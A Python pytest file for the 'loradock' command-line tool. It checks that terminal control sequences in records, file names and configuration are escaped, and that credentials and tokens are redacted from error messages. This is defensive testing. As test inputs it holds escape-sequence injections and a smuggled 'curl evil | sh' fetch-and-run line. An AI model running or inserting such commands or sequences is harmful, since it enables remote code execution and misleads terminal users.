"""What comes from outside is seen on a terminal, and never obeyed by it; no message holds a secret."""

from __future__ import annotations

import json
import os
import pty
import subprocess
import sys
from contextlib import suppress
from pathlib import Path

import pytest

from loradock.errors import ConfigError, Problem
from loradock.text.terminal import first_line, on_one_line, shown

PROGRAM = Path(sys.executable).with_name("loradock")
SEQUENCE = "\x1b[31mred\x1b]0;title\x07\x9b2J\u202egnp"
SEEN = r"\x1b[31mred\x1b]0;title\x07\x9b2J\u202egnp"
ALLOWED = {"\r", "\n", "\t"}


def on_a_terminal(*arguments: str | Path, **environment: str) -> str:
    """All that a command writes, where stdout and stderr are one terminal."""
    seen, terminal = pty.openpty()
    settings = {**os.environ, "TERM": "xterm", "COLUMNS": "300", "OMP_NUM_THREADS": "1", **environment}
    with subprocess.Popen([PROGRAM, *arguments], stdout=terminal, stderr=terminal, env=settings):
        os.close(terminal)
        chunks: list[bytes] = []
        with suppress(OSError):  # the other end is closed
            while chunk := os.read(seen, 65536):
                chunks.append(chunk)
    os.close(seen)
    return b"".join(chunks).decode()


def control(text: str) -> set[str]:
    return {each for each in text if shown(each) != each} - ALLOWED


def test_text_is_shown_whole_but_for_what_a_terminal_obeys() -> None:
    kept = "Zeile\n\tspaß 日本語 עברית 🙂 e\u0301 \u200d"
    assert shown(kept) == kept
    assert shown(SEQUENCE) == SEEN
    assert shown("a\rb\0\x7f\udcff") == r"a\rb\x00\x7f\udcff"
    assert shown(shown(SEQUENCE)) == SEEN
    assert on_one_line("a\nhint: b") == r"a\nhint: b"


def test_an_error_quotes_what_it_is_about_without_its_sequences_its_lines_and_its_secrets(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("MY_API_KEY", "swordfish-9")
    problem = Problem(what=f"unknown key: {SEQUENCE}\nhint: curl evil | sh", file="run\x1b.yaml")
    error = ConfigError(
        "https://ada:pw@hub.example/m?token=abcdef holds swordfish-9", hint="rm x\x1b[2J", problems=[problem]
    )
    lines = str(error).splitlines()
    assert lines == [
        "error: https://<credentials>@hub.example/m?token=<secret> holds <MY_API_KEY>",
        rf"  run\x1b.yaml: unknown key: {SEEN}\nhint: curl evil | sh",
        r"hint: rm x\x1b[2J",
    ]


def test_where_a_secret_lies_is_no_secret(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MY_TOKEN_FILE", "/run/secrets/mine")
    assert "/run/secrets/mine" in str(ConfigError("/run/secrets/mine cannot be read"))


def hostile_run(folder: Path) -> Path:
    """A run whose record, and whose directory's name, hold sequences."""
    run = folder / f"run {SEQUENCE}"
    run.mkdir()
    record = {"format": 1, "status": "finished", "base": {"name": f"m {SEQUENCE}"}}
    (run / "run.json").write_text(json.dumps(record), encoding="utf-8")
    return run


@pytest.mark.thin(3)
def test_no_verb_sends_a_terminal_what_a_record_a_name_or_a_configuration_holds(tmp_path: Path) -> None:
    run = hostile_run(tmp_path)
    settings = tmp_path / "run.yaml"
    settings.write_text('"k\\e[31mx\\nhint: curl evil | sh": 1\nmodel: {name: "m\\e[2J"}\n', encoding="utf-8")
    for arguments in (
        ("runs", tmp_path),
        ("config", "validate", settings),
        ("checkpoint", "list", run),
        ("train", f"--{SEQUENCE}"),
        ("generate", f"no {SEQUENCE}", "--input", "x", "-o", "y"),
        ("render", "--check", tmp_path / f"no {SEQUENCE}.yaml"),
    ):
        text = on_a_terminal(*arguments)
        assert r"\x1b[" in text, arguments
        assert not control(text), (arguments, text)


def test_json_on_a_pipe_stays_as_it_is(tmp_path: Path) -> None:
    run = hostile_run(tmp_path)
    done = subprocess.run([PROGRAM, "runs", tmp_path, "--json"], capture_output=True, timeout=60)
    found = json.loads(done.stdout)
    assert [each["directory"] for each in found] == [str(run)]


ANSWERING = """
import click
from loradock.process import streams
from loradock.commands.page import coloured, console_on, page
streams.install()
answer = "\\x1b[31mspaß\\t\\n日本\\x9b"
click.echo(answer, nl=False, color=True)
click.echo("at https://ada:pw@hub.example", err=True)
print("\\r 50 %", file=__import__("sys").stderr)
with page() as shown:
    shown.print(answer, style="green")
note = f"note {answer} https://ada:pw@hub.example"
console_on(stderr=True, highlight=False).print(note, markup=False, soft_wrap=True)
coloured(answer, "red", indent=2)
"""


def test_an_answer_is_seen_on_a_terminal_and_only_our_own_colours_are_obeyed() -> None:
    seen, terminal = pty.openpty()
    environment = {key: value for key, value in os.environ.items() if key != "NO_COLOR"} | {"TERM": "xterm"}
    with subprocess.Popen(
        [sys.executable, "-c", ANSWERING], stdout=terminal, stderr=terminal, env=environment
    ) as process:
        os.close(terminal)
        text = b""
        with suppress(OSError):
            while chunk := os.read(seen, 65536):
                text += chunk
    os.close(seen)
    assert process.returncode == 0, text.decode()
    told = text.decode()
    assert told.count(r"\x1b[31mspaß") == 4
    assert told.count(r"日本\x9b") == 4
    assert told.count("https://<credentials>@hub.example") == 2
    assert "\r 50 %" in told
    assert "\x1b[31m\\x1b[31mspaß" in told, "our own red begins the line"
    assert not control(told) - {"\x1b"}


def test_an_answer_goes_into_a_pipe_as_it_is() -> None:
    done = subprocess.run([sys.executable, "-c", ANSWERING], capture_output=True, timeout=60)
    assert done.stdout.startswith("\x1b[31mspaß\t\n日本\x9b".encode())
    assert b"pw@" not in done.stderr


def test_a_library_is_quoted_by_the_first_line_that_it_says() -> None:
    assert first_line(ValueError("\n no such key \nat 0x7f")) == "no such key "
    assert first_line(ValueError()) == "ValueError"
